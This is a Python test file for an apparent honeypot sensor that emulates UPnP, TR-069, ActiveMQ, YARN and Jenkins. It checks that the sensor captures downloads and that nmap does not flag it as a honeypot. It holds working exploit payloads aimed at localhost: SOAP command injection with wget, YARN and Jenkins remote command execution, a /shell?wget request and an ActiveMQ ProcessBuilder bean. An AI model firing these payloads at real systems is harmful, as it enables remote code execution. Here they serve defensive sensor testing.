"""Real clients at UPnP, TR-069, ActiveMQ, YARN, Jenkins and HTTPS, all of one sensor; and nmap's names for them."""

from __future__ import annotations

import asyncio
import json
import re
import socket
from pathlib import Path

from eudaemon.payload.fetch.policy import FetchSettings
from payload.servers import saying, serving, tool
from sensor.harness import events, running

ADDRESS = "127.77.0.2"
LISTEN = (
    "activemq tcp 61616", "http tcp 443", "jenkins tcp 8082", "tr069 tcp 7547", "upnp tcp 52869",
    "upnp udp 1900", "yarn tcp 8088",
)  # fmt: skip
NAMED = (
    r"8082/tcp\s+open\s+http\s+Jetty (?:9|10)\.",
    r"8088/tcp\s+open\s+http\s+Jetty [69]\.",
    r"52869/tcp\s+open\s+upnp\s+MiniUPnP",
    r"61616/tcp\s+open\s+apachemq\s+ActiveMQ OpenWire transport 5\.1",
)
SOAP = "<u:{0}><{1}>`wget http://127.0.0.1:{2}/{0}`</{1}></u:{0}>"
BEANS = (
    '<bean class="java.lang.ProcessBuilder"><list><value>sh</value><value>-c</value><value>wget {0}/bean</value></list>'
)


async def said(*command: str) -> str:
    process = await asyncio.create_subprocess_exec(
        *command, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    return (await process.communicate())[0].decode()


def searched() -> bool:
    """Search over UDP until the answer is whole, as clients do; never may more come back than was sent."""
    search = (
        b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: upnp:rootdevice\r\nMAN: "ssdp:discover"\r\n'
        b"MX: 2\r\n\r\n"
    )
    sent = got = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        for _ in range(8):
            client.sendto(search, (ADDRESS, 1900))
            answer = client.recv(65_536)
            sent, got = sent + len(search), got + len(answer)
            assert got <= sent
            assert b"\r\nST:upnp:rootdevice\r\n" in answer
            if b"\r\nUSN:uuid:" in answer:
                return True
    return False


async def test_clients_and_scanners(tmp_path: Path) -> None:
    curl, upnpc, nmap = tool("curl", "curl"), tool("upnpc", "miniupnpc"), tool("nmap", "nmap")
    lab = FetchSettings(lab_networks=("127.0.0.0/8",))
    more = {"addresses": (ADDRESS,), "listen": LISTEN, "fetch": lab}

    async def posted(path: str, body: str, *headers: str) -> str:
        return await said(curl, "-sik", f"{path}", "-d", body, *(word for one in headers for word in ("-H", one)))

    async with serving(saying(b"HTTP/1.0 200 OK\r\n\r\n#!/bin/sh\n")) as web, running(tmp_path, "upnp", **more):
        where = f"http://127.0.0.1:{web}"
        async with serving(saying(b"HTTP/1.0 200 OK\r\n\r\n" + BEANS.format(where).encode())) as beans:
            scan = asyncio.create_task(said(nmap, "-Pn", "-n", "-sV", "-p", "8082,8088,52869,61616", ADDRESS))
            base = f"http://{ADDRESS}"
            description = f"{base}:52869/picsdesc.xml"
            assert "is redirected to internal 10.0.0.5:80" in await said(
                upnpc, "-u", description, "-a", "10.0.0.5", "80", "4444", "TCP")  # fmt: skip
            assert re.search(r"0 TCP\s+4444->10\.0\.0\.5:80", await said(upnpc, "-u", description, "-l"))
            for path, action, argument in (
                (description, "AddPortMapping", "NewInternalClient"),
                (f"{base}:7547/UD/act?1", "SetNTPServers", "NewNTPServer1"),
            ):  # fmt: skip
                answer = await posted(path, SOAP.format(action, argument, web), f"SOAPAction: a:b#{action}")
                assert answer.startswith("HTTP/1.1 200 OK")
            app = await posted(f"{base}:8088/ws/v1/cluster/apps/new-application", "")
            name = json.loads(app.partition("\r\n\r\n")[2])["application-id"]
            work = {"application-id": name, "am-container-spec": {"commands": {"command": f"wget {where}/yarn"}}}
            assert "202 Accepted" in await posted(f"{base}:8088/ws/v1/cluster/apps", json.dumps(work))
            script = f'script=println "wget {where}/jenkins".execute().text'
            assert "200 OK" in await posted(f"{base}:8082/scriptText", script)
            assert "200 OK" in await posted(f"https://{ADDRESS}/shell?wget+{where}/https", "")
            assert await asyncio.get_running_loop().run_in_executor(None, searched)
            reader, writer = await asyncio.open_connection(ADDRESS, 61616)
            assert b"ActiveMQ" in await reader.read(4096)
            xml = f"http://127.0.0.1:{beans}/poc.xml".encode()
            thrown = b"\x1f" + bytes(9) + b"\1\1\0\x0ba.b.Context\1" + len(xml).to_bytes(2, "big") + xml
            writer.write(len(thrown).to_bytes(4, "big") + thrown)
            async with asyncio.timeout(10):
                while len(events(tmp_path, "download.finished")) < 7:
                    await asyncio.sleep(0.02)
            writer.close()
            names = await scan
    for named in NAMED:
        assert re.search(named, names), names
    assert "oneypot" not in names
    got = {event.fact.url.rpartition("/")[2] for event in events(tmp_path, "download.finished")}  # type: ignore[attr-defined]
    assert got == {"AddPortMapping", "SetNTPServers", "yarn", "jenkins", "https", "poc.xml", "bean"}
    assert not events(tmp_path, "sensor.faulted")
